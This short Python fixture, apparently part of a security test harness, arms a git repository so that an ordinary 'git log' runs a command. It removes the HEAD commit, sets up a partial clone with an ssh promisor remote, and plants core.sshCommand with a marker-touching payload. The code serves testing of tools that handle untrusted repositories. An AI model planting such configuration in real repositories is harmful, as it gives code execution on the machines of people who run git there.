# attack: a partial clone with an ssh remote: the lazy fetch of the missing HEAD commit runs core.sshCommand
# trigger: log -1 --format=%cI
# time: unknown
from armory import config, drop_head_commit


def arm(git, marker):
    drop_head_commit(git)
    config(git, "core.repositoryformatversion", "1")
    config(git, "extensions.partialclone", "origin")
    config(git, "remote.origin.url", "ssh://example.invalid/course.git")
    config(git, "remote.origin.promisor", "true")
    config(git, "core.sshCommand", f"touch {marker}; false")
